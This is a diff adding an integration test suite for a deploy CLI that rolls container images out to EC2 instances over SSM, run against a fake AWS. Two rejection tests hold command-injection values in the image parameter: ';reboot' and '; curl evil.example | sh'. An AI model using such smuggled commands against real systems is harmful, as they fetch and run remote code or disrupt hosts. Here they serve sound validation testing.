@@ -1,0 +1,241 @@
+import { execFile } from 'node:child_process'
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { promisify } from 'node:util'
+import {
+  CreateDocumentCommand,
+  PutParameterCommand,
+  SendCommandCommand,
+  SSMClient,
+} from '@aws-sdk/client-ssm'
+import t, { type Test } from 'tap'
+import { DEPLOY_DOCUMENT_NAME, deployDocumentContent } from '../../controller/ssm/document.js'
+import { type FakeAws, startFakeAws } from '../ground/fake-aws/index.js'
+import { testKeys } from '../ground/fake-aws/test-clients.js'
+import { loadGround } from '../ground/ground.js'
+import { type FleetStub, fleetStub, stubInstanceEnv } from './fleet-stub.js'
+
+// The controller CLI as CI runs it, against the fake SSM and ECR: the real document, SSM's parameter checks,
+// rate control and the waiter, with a stand-in agent on each simulated instance.
+const ground = loadGround()
+const root = new URL('../..', import.meta.url).pathname
+const run = promisify(execFile)
+const v1 = ground.images.v1
+const pinnedV1 = `${ground.registryHost}/${v1.repository}@${v1.digest}`
+
+interface Fleet {
+  aws: FakeAws
+  ssm: SSMClient
+  stub: FleetStub
+  work: string
+}
+
+async function fleet(t: Test, modes: Record<string, 'ok' | 'unchanged' | 'unhealthy'>): Promise<Fleet> {
+  const aws = await startFakeAws({
+    registry: {
+      url: ground.registryUrl,
+      user: ground.registryUser,
+      password: ground.registryPassword,
+      ca: ground.caCertPath,
+    },
+    ssm: { deliveryTimeoutMs: 500 },
+  })
+  t.teardown(() => aws.close())
+  const stub = await fleetStub(t)
+  for (const [id, mode] of Object.entries(modes)) {
+    aws.ssm.addInstance({ id, tags: { Role: 'web' }, env: stubInstanceEnv(stub, id, mode) })
+  }
+  const ssm = new SSMClient({ endpoint: aws.endpoint, region: ground.region, credentials: testKeys() })
+  await ssm.send(
+    new CreateDocumentCommand({
+      Name: DEPLOY_DOCUMENT_NAME,
+      Content: deployDocumentContent(),
+      DocumentType: 'Command',
+      DocumentFormat: 'JSON',
+    }),
+  )
+  const work = await mkdtemp(join(tmpdir(), 'ecr-deploy-cli-'))
+  t.teardown(() => rm(work, { recursive: true, force: true }))
+  return { aws, ssm, stub, work }
+}
+
+async function cli(f: Fleet, args: string[], extraEnv: Record<string, string> = {}) {
+  const env = {
+    PATH: process.env.PATH ?? '',
+    HOME: f.work,
+    ...f.aws.env(),
+    AWS_ACCESS_KEY_ID: 'AKIDCONTROLLER',
+    AWS_SECRET_ACCESS_KEY: 'test',
+    AWS_EC2_METADATA_DISABLED: 'true',
+    ...extraEnv,
+  }
+  return run(process.execPath, ['--import', 'tsx', join(root, 'controller/cli.ts'), ...args], {
+    env,
+    cwd: root,
+  }).then(
+    (out) => ({ code: 0, stdout: out.stdout, stderr: out.stderr }),
+    (error: { code: number; stdout: string; stderr: string }) => ({
+      code: error.code,
+      stdout: error.stdout,
+      stderr: error.stderr,
+    }),
+  )
+}
+
+const deployArgs = [
+  'deploy',
+  '--service',
+  'web',
+  '--image',
+  v1.uri,
+  '--targets',
+  'tag:Role=web',
+  '--timeout',
+  '60',
+]
+
+t.test('deploys by tag to every tagged instance and reports each', async (t) => {
+  const f = await fleet(t, {
+    'i-0000000000000000a': 'ok',
+    'i-0000000000000000b': 'unchanged',
+    'i-0000000000000000c': 'ok',
+  })
+  const summary = join(f.work, 'summary.md')
+  const output = join(f.work, 'output.txt')
+  const result = await cli(f, [...deployArgs, '--max-concurrency', '1'], {
+    GITHUB_ACTIONS: 'true',
+    GITHUB_STEP_SUMMARY: summary,
+    GITHUB_OUTPUT: output,
+  })
+  t.equal(result.code, 0, result.stderr)
+  t.equal(f.aws.ssm.parameter('/ecr-deploy/web'), pinnedV1, 'desired release recorded, pinned to the digest')
+  const calls = await f.stub.calls()
+  t.equal(calls.length, 3)
+  for (const call of calls) t.match(call, `deploy --service web --image ${pinnedV1} --wait`)
+  t.match(result.stdout, /i-0000000000000000b {2}unchanged/)
+  t.match(result.stdout, /2 succeeded, 1 unchanged, 0 failed/)
+  const markdown = await readFile(summary, 'utf8')
+  t.match(markdown, '| i-0000000000000000a | succeeded | `111111111111` → `' + v1.digest.slice(7, 19) + '`')
+  t.match(
+    await readFile(output, 'utf8'),
+    new RegExp(`^digest<<(ecr_deploy_[0-9a-f-]+)\\n${v1.digest}\\n\\1$`, 'm'),
+  )
+})
+
+t.test('one unhealthy instance is a partial failure with its output tail and an annotation', async (t) => {
+  const f = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'unhealthy' })
+  const result = await cli(f, [...deployArgs, '--max-errors', '1'], { GITHUB_ACTIONS: 'true' })
+  t.equal(result.code, 10, 'partial failure exit code')
+  t.match(result.stdout, /i-0000000000000000b failed: Failed: \[E_HEALTH_FAILED\] r2 did not become healthy/)
+  t.match(result.stdout, /\| app: cannot open database/)
+  t.match(result.stdout, /^::error title=web on i-0000000000000000b::Failed: \[E_HEALTH_FAILED\]/m)
+  t.match(result.stderr, /^error \[E_PARTIAL_FAILURE\]: the deploy failed on 1 of 2 instance\(s\)/)
+})
+
+t.test(
+  '--rollback-on-failure puts the previous release back on the instances that took the new one',
+  async (t) => {
+    const f = await fleet(t, { 'i-0000000000000000a': 'ok', 'i-0000000000000000b': 'unhealthy' })
+    const previous = `${ground.registryHost}/${v1.repository}@sha256:${'2'.repeat(64)}`
+    await f.ssm.send(new PutParameterCommand({ Name: '/ecr-deploy/web', Value: previous, Type: 'String' }))
+    const result = await cli(f, [...deployArgs, '--max-errors', '1', '--rollback-on-failure', '--json'])
+    t.equal(result.code, 10)
+    const report = JSON.parse(result.stdout) as {
+      rollback: { image: string; outcomes: Array<{ instanceId: string }> }
+    }
+    t.equal(report.rollback.image, previous)
+    t.strictSame(
+      report.rollback.outcomes.map((o) => o.instanceId),
+      ['i-0000000000000000a'],
+    )
+    t.equal(f.aws.ssm.parameter('/ecr-deploy/web'), previous, 'desired release set back')
+    const calls = await f.stub.calls()
+    t.match(calls.at(-1), `i-0000000000000000a deploy --service web --image ${previous}`)
+  },
+)
+
+t.test('zero matched instances and an offline instance are failures', async (t) => {
+  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
+  const none = await cli(f, [
+    'deploy',
+    '--service',
+    'web',
+    '--image',
+    v1.uri,
+    '--targets',
+    'tag:Role=nothing',
+    '--timeout',
+    '60',
+  ])
+  t.equal(none.code, 11)
+  t.match(none.stderr, /no instance matched the targets/)
+  f.aws.faults.setInstanceOnline('i-0000000000000000a', false)
+  const offline = await cli(f, deployArgs)
+  t.equal(offline.code, 11)
+  t.match(offline.stdout, /i-0000000000000000a failed: TimedOut \(Delivery Timed Out\)/)
+})
+
+t.test('bad input stops before any call that changes something', async (t) => {
+  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
+  const cases: Array<[string[], RegExp]> = [
+    [
+      ['deploy', '--service', 'web', '--image', `${v1.uri};reboot`, '--targets', 'tag:Role=web'],
+      /E_IMAGE_REF_INVALID/,
+    ],
+    [
+      ['deploy', '--service', 'web', '--image', v1.uri, '--targets', 'Role=web'],
+      /--targets: "Role=web" is not a target/,
+    ],
+    [
+      [
+        'deploy',
+        '--service',
+        'web',
+        '--image',
+        v1.uri,
+        '--targets',
+        'tag:Role=web',
+        '--max-concurrency',
+        '150%',
+      ],
+      /--max-concurrency/,
+    ],
+    [
+      ['deploy', '--service', 'Web', '--image', v1.uri, '--targets', 'tag:Role=web'],
+      /service name "Web" is invalid/,
+    ],
+    [['deploy', '--service', 'web', '--image', v1.uri], /no target/],
+  ]
+  for (const [args, message] of cases) {
+    const result = await cli(f, args)
+    t.equal(result.code, 2, args.join(' '))
+    t.match(result.stderr, message)
+  }
+  const missingTag = await cli(f, [
+    'deploy',
+    '--service',
+    'web',
+    '--image',
+    `${ground.registryHost}/${v1.repository}:nope`,
+    '--targets',
+    'tag:Role=web',
+  ])
+  t.equal(missingTag.code, 4)
+  t.match(missingTag.stderr, /:nope is not in ECR: push it first/)
+  const changes = f.aws.calls.filter((call) => ['SendCommand', 'PutParameter'].includes(call.operation))
+  t.strictSame(changes, [], 'no SendCommand or PutParameter was made')
+})
+
+t.test('the document itself refuses an image that is not digest-pinned ECR', async (t) => {
+  const f = await fleet(t, { 'i-0000000000000000a': 'ok' })
+  const attempt = f.ssm.send(
+    new SendCommandCommand({
+      DocumentName: DEPLOY_DOCUMENT_NAME,
+      InstanceIds: ['i-0000000000000000a'],
+      Parameters: { action: ['deploy'], service: ['web'], image: [`${pinnedV1}; curl evil.example | sh`] },
+    }),
+  )
+  await t.rejects(attempt, { name: 'InvalidParameters' })
+  t.strictSame(await f.stub.calls(), [])
+})
